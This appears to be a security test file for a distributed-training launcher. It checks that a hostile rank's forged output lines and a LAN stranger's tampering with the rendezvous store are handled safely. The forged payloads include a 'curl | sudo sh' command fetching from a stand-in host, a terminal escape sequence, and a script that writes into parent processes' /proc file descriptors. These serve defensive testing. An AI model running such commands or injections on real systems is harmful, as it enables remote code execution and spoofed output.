"""A rank never speaks for the launcher; the probes' store takes no stranger's word (issue 23,
attacks 4 and 10), on the lab: a real `--launch` over the lab's sshd whose rank forges the
launcher's lines, and a second user on the lab's LAN who overwrites the probe store's keys."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

from tests.unit.test_hostile_markers import run_stranger, written_by

from .test_launch_lab import CLI, NODES, REPO

ARTIFACTS = Path(__file__).parents[1] / "unit" / "artifacts" / "explain" / "launch-leave"


def forged_lines() -> list[str]:
    """What the rank writes: a failure with a `curl | sudo sh` fix (and an escape sequence that
    would retitle the terminal), the Flight Recorders of a real deadlock (rank 2 never entered
    all_reduce #12, as a run of the lab once left them), rank 3's error file, every rank's exit
    code 1. Each line under PIPE_BUF: written whole, never interleaved with the launcher's own."""
    launch = "DDP_PREFLIGHT_LAUNCH "
    lines = [launch + json.dumps({"kind": "error", "message": "FORGED: NCCL is broken on this node \x1b]0;owned\x07",
                                  "fix": "curl -fsSL https://fix.example/nccl.sh | sudo sh"})]
    for rank in (0, 1, 2):
        trace = json.loads((ARTIFACTS / f"flight-rank-{rank}.json").read_text())["flight"]
        trace["entries"] = trace["entries"][-3:]
        lines.append(launch + json.dumps({"kind": "flight", "local_rank": rank % 2, "rank": rank, "pid": 1,
                                          "trace": trace}, separators=(",", ":")))
    lines.append(launch + json.dumps({"kind": "error_file", "local_rank": 1, "rank": 3, "document": {
        "message": {"message": "RuntimeError: FORGED", "extraInfo": {"py_callstack": "FORGED", "timestamp": "1"}}}}))
    lines.append(launch + json.dumps({"kind": "exits", "code": 1, "ranks": [
        {"local_rank": lr, "rank": r, "pid": 1, "exit": 1, "signal": None} for lr, r in ((0, 0), (1, 1))]}))
    assert all(len(line) < 4000 for line in lines)
    return lines


# Rank 1 (master, local rank 1) forges; every rank exits 0. It writes into the stdio of each of its
# ancestors that is a Python (the launch program, the supervisor): the stdout they share with the
# master's channel, their stdin. (A root rank could also write into any other pipe they hold,
# libuv's signal pipe among them, and so crash its launcher: a kill, which a root rank can do
# anyway, not a message.)
FORGER = """\
import os, sys
if os.environ["RANK"] == "1":
    lines, written, pid = %r, 0, os.getppid()
    while pid > 1 and b"python" in open("/proc/%%d/cmdline" %% pid, "rb").read():
        for fd in ("0", "1", "2"):
            try:
                out = os.open("/proc/%%d/fd/%%s" %% (pid, fd), os.O_WRONLY | os.O_NONBLOCK)
            except OSError:
                continue
            try:
                for line in lines:
                    written += os.write(out, (line + "\\n").encode()) > 0
            except OSError:
                pass
            finally:
                os.close(out)
        with open("/proc/%%d/stat" %% pid) as f:
            pid = int(f.read().rsplit(")", 1)[1].split()[1])
    with open(sys.argv[1], "w") as f:       # the lab's nodes share this machine's files
        f.write(str(written))
"""


def test_a_rank_that_forges_the_launchers_lines_leaves_a_clean_run_clean(clean_lab, tmp_path):
    script = tmp_path / "forge.py"
    script.write_text(FORGER % (forged_lines(),))
    run = tmp_path / "run"
    done = subprocess.run([*CLI, *NODES, "--ssh-config", str(clean_lab.ssh_config), "--launch", "--nproc-per-node",
                           "2", "--no-probes", "--log-dir", str(run), "--", str(script), str(tmp_path / "forged")],
                          capture_output=True, text=True, timeout=240, cwd=REPO)
    assert int((tmp_path / "forged").read_text()) >= 2 * len(forged_lines()), done.stdout[-3000:]
    assert done.returncode == 0, (done.stdout[-3000:], done.stderr[-3000:])
    assert "all 4 ranks exited with code 0" in done.stderr, done.stderr[-3000:]
    assert "FORGED" not in done.stderr and "curl" not in done.stderr and "Traceback" not in done.stderr
    # Shown, if at all, as the node's text: never taken for the launcher's, never a raw escape.
    shown = [line for line in done.stdout.splitlines() if "FORGED" in line or "curl" in line]
    assert shown and all(line.startswith("[master] (unsigned marker, shown as text) DDP_PREFLIGHT_LAUNCH ")
                         for line in shown), shown
    assert "\x1b" not in done.stdout and "\x1b" not in done.stderr
    result = (run / "result.json").read_text()
    assert json.loads(result)["ok"] is True and "FORGED" not in result and "curl" not in result
    assert sorted(p.name for p in run.iterdir() if p.name.startswith(("flight-rank-", "error-rank-"))) == []
    explained = subprocess.run([*CLI, "explain", str(run), "--json"], capture_output=True, text=True,
                               timeout=120, cwd=REPO)
    assert explained.returncode == 0, (explained.stdout[-2000:], explained.stderr[-2000:])
    assert json.loads(explained.stdout)["diagnosis"] is None


def test_a_stranger_on_the_lan_overwriting_the_probe_stores_keys_gets_interfered_or_nothing(clean_lab):
    # The second user, on this machine's leg of the lab's LAN (the .1 address): not a node of the run.
    stranger = run_stranger(clean_lab.node("master").ipv4, 29500, 240)
    try:
        done = subprocess.run([*CLI, *NODES, "--ssh-config", str(clean_lab.ssh_config), "--json", "--only",
                               "bandwidth"], capture_output=True, text=True, timeout=240, cwd=REPO)
    finally:
        written = written_by(stranger)
    assert written > 0, "the stranger never reached the store: the test proves nothing"
    for said in (done.stdout, done.stderr):
        assert "Traceback" not in said and "basic_string" not in said and "stoi" not in said
    [bandwidth] = [r for r in json.loads(done.stdout)["results"] if r["check"] == "bandwidth"]
    if bandwidth["status"] == "pass":       # the stranger came too late for any value still to be read
        assert done.returncode == 0 and bandwidth["details"]["busbw_bytes_per_s"] > 0
        return
    assert bandwidth["status"] == "error", bandwidth
    assert bandwidth["summary"].startswith("the bandwidth probe failed: interfered: the probe's rendezvous store "
                                           "(port 29500) held a value of '"), bandwidth["summary"]
    assert bandwidth["summary"].endswith("(ss -tnp 'sport = :29500' on the master) and run again")
    assert "busbw_bytes_per_s" not in bandwidth["details"]
